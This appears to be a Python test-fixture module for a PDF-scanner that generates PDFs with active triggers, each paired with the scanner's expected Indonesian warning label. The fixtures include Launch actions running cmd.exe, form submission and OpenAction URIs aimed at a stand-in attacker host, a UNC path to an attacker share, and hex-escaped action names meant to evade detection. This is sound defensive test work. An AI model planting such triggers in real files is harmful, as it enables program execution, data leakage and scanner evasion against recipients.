"""PDFs that act by themselves or at a click, one for each way: what is put into the file, what the warning calls it."""

from __future__ import annotations

from pikepdf import ObjectStreamMode, Pdf
from scan_samples import raw_pdf

TEXT = b"BT /F1 12 Tf 72 700 Td (Kepada Yth. Kepala Kantor Wilayah) Tj ET"
RECT = b"/Type /Annot /Rect [9 9 99 99]"
ADDRESS = b"<< /S /URI /URI (http://penyerang.contoh/baca) >>"
OTHER_FILE = b"<< /S /GoToR /F (\\\\\\\\penyerang\\\\bagi\\\\a.pdf) /D [0 /Fit] >>"
INSIDE = b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>"
LINK = b"/Annots [<< " + RECT + b" /Subtype /Link /A "
BUTTON = b"/Annots [<< " + RECT + b" /Subtype /Widget /FT /Btn /T (kirim) "

#: What is put into the file, and what the warning calls it.
WAYS = {
    "address on opening": ({"root": b"/OpenAction " + ADDRESS}, "membuka alamat internet"),
    "other file on opening": ({"root": b"/OpenAction " + OTHER_FILE}, "membuka berkas lain"),
    "file inside on opening": ({"root": b"/OpenAction " + INSIDE}, "membuka berkas di dalamnya"),
    "address after going to a page": (
        {"root": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + ADDRESS + b"] >>"},
        "membuka alamat internet",
    ),
    "address spelt in hexadecimal": (
        {"root": b"/#4fpenAction << /#53 /#55RI /URI (http://penyerang.contoh) >>"},
        "membuka alamat internet",
    ),
    "address when a page opens": ({"page": b"/AA << /O " + ADDRESS + b" >>"}, "membuka alamat internet"),
    "other file when the document closes": ({"root": b"/AA << /WC " + OTHER_FILE + b" >>"}, "membuka berkas lain"),
    "sound when a page opens": ({"page": b"/AA << /O << /S /Sound >> >>"}, "memutar suara"),
    "button that sends": (
        {"page": BUTTON + b"/A << /S /SubmitForm /F (http://penyerang.contoh) >> >>]"},
        "mengirim isian",
    ),
    "button that fetches": ({"page": BUTTON + b"/A << /S /ImportData /F (a.fdf) >> >>]"}, "mengambil isian"),
    "button that starts a program": ({"page": BUTTON + b"/A << /S /Launch /F (cmd.exe) >> >>]"}, "menjalankan program"),
    "field that runs when it is seen": (
        {"page": BUTTON + b"/AA << /PV << /S /JavaScript /JS (x) >> >> >>]"},
        "JavaScript",
    ),
    "field that runs when it is left": (
        {"page": BUTTON + b"/AA << /Bl " + OTHER_FILE + b" >> >>]"},
        "membuka berkas lain",
    ),
    "field whose parent acts": (
        {
            "root": b"/AcroForm << /Fields [5 0 R] >>",
            "page": b"/Annots [6 0 R]",
            "extra": (
                b"<< /T (a) /FT /Btn /Kids [6 0 R] /AA << /K << /S /JavaScript /JS (x) >> >> >>",
                b"<< " + RECT + b" /Subtype /Widget /Parent 5 0 R >>",
            ),
        },
        "JavaScript",
    ),
    "field that is on no page": (
        {"root": b"/AcroForm << /Fields [<< /T (a) /FT /Tx /AA << /C << /S /JavaScript /JS (x) >> >> >>] >>"},
        "JavaScript",
    ),
    "bookmark that starts a program": (
        {
            "root": b"/Outlines << /First 5 0 R /Last 5 0 R /Count 1 >>",
            "extra": (b"<< /Title (Baca) /A << /S /Launch /F (cmd.exe) >> >>",),
        },
        "menjalankan program",
    ),
    "link to another file": ({"page": LINK + OTHER_FILE + b" >>]"}, "membuka berkas lain"),
    "link into a file inside": ({"page": LINK + INSIDE + b" >>]"}, "membuka berkas di dalamnya"),
    "media": (
        {"page": b"/Annots [<< " + RECT + b" /Subtype /Screen /A << /S /Rendition /OP 0 >> >>]"},
        "memutar media",
    ),
    "action nobody knows": ({"page": LINK + b"<< /S /Baru >> >>]"}, "perintah yang tidak dikenal"),
}
#: How a file may be written, besides in plain sight.
SPELLINGS = {
    "plain": {},
    "objects packed": {"object_stream_mode": ObjectStreamMode.generate},
    "linearised": {"linearize": True},
}


def made(folder, options, spelling=None):
    path = raw_pdf(folder / "a.pdf", TEXT, **options)
    if spelling:
        with Pdf.open(path) as pdf:
            pdf.save(folder / "b.pdf", **spelling)
        return folder / "b.pdf"
    return path
